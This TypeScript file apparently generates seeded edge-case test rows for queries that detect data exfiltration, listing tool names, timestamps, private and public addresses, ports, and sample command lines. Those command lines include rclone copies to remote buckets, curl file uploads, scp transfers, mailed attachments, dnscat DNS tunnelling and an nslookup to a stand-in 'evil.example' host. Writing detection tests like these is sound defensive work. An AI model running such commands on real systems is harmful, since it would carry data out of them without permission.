/** Generated rows for the seed queries, full of border cases, from one seed. */

export const NOW = '2026-11-20T12:00:00Z'
const NOW_MS = Date.parse(NOW)

export type Row = Record<string, unknown>

export class Dice {
  #state: number

  constructor(seed: number) {
    this.#state = seed
  }

  next(): number {
    this.#state = (this.#state + 0x6d2b79f5) | 0
    let t = Math.imul(this.#state ^ (this.#state >>> 15), 1 | this.#state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }

  pick<T>(items: readonly T[]): T {
    const item = items[Math.floor(this.next() * items.length)]
    if (item === undefined) throw new Error('nothing to pick from')
    return item
  }
}

const DAY = 86_400_000

/** Inside, outside and on the edge of the last 24 hours, and around full hours. */
export const AGES = [
  0,
  1,
  999,
  1000,
  60_000,
  3_599_999,
  3_600_000,
  3_600_001,
  7_200_000,
  DAY - 1,
  DAY,
  DAY + 1,
  DAY + 60_000,
  2 * DAY,
]

export const TOOLS = [
  'rclone.exe',
  'RCLONE.EXE',
  'winscp.exe',
  'WinSCP.exe',
  'pscp.exe',
  'psftp.exe',
  'filezilla.exe',
  'sftp.exe',
  'scp.exe',
  'curl.exe',
  'wget.exe',
  'renamed-curl.exe',
  'mycurl.exe.bak',
  'curl',
  'cmd.exe',
  'CMD.EXE',
  'powershell.exe',
  'pwsh.exe',
  'notepad.exe',
  'ncftp',
  'nslookup.exe',
  'blat.exe',
  'chrome.exe',
  'svchost.exe',
  '',
]

export const COMMANDS = [
  'rclone copy c:\\data remote:bucket',
  'rclone.exe sync D:\\x sftp:y',
  'rclone move a mega_remote:b',
  'RCLONE COPY a b',
  'scp file user@host:/tmp',
  'do scp',
  'winscp /console',
  'pscp -pw x a b',
  'x-scp y',
  'my_scp z',
  'scp\tfile',
  'scpx file',
  'sftp -b batch host',
  'SFTP host',
  'psftp host',
  'sftpx',
  'curl --ssl https://h/',
  'curl -T f sftp://h/',
  'curl --upload-file f http://h/',
  'curl -d @f HTTP://h/',
  'curl --form a=b http://h/',
  'put file',
  'output x',
  'mput *',
  'input put',
  'open ssl now',
  'tls',
  'notls',
  'a:b',
  'webdav://h',
  'WebDAV',
  'ftps://h',
  'ftp://h/f',
  'STOR x',
  'restor x',
  'Send-MailMessage -SmtpServer s -Attachments f',
  'sendmail -to a',
  'smtp -attach f',
  'smtps',
  'dnscat --dns',
  'nslookup aaaa.evil.example',
  's3 sync',
  'copy',
  'dropbox:x copy',
  'copying',
  '',
  'line one\nsftp two',
  'rclone\u0000x',
]

export const ADDRESSES = [
  '8.8.8.8',
  '9.255.255.255',
  '10.0.0.0',
  '10.255.255.255',
  '11.0.0.0',
  '100.1.2.3',
  '126.255.255.255',
  '127.0.0.1',
  '128.0.0.1',
  '172.15.255.255',
  '172.16.0.0',
  '172.31.255.255',
  '172.32.0.0',
  '172.160.1.1',
  '192.167.255.255',
  '192.168.0.1',
  '192.169.0.0',
  '1.10.0.1',
  '::1',
  'fe80::1',
  '2001:db8::1',
]

export const PORTS = [
  21, 22, 25, 53, 80, 110, 143, 443, 465, 587, 990, 993, 2121, 8000, 8080, 8443, 8888, 4443, 0, 65535,
]

export function at(age: number): number {
  return NOW_MS - age
}

export function iso(age: number): string {
  return new Date(at(age)).toISOString()
}
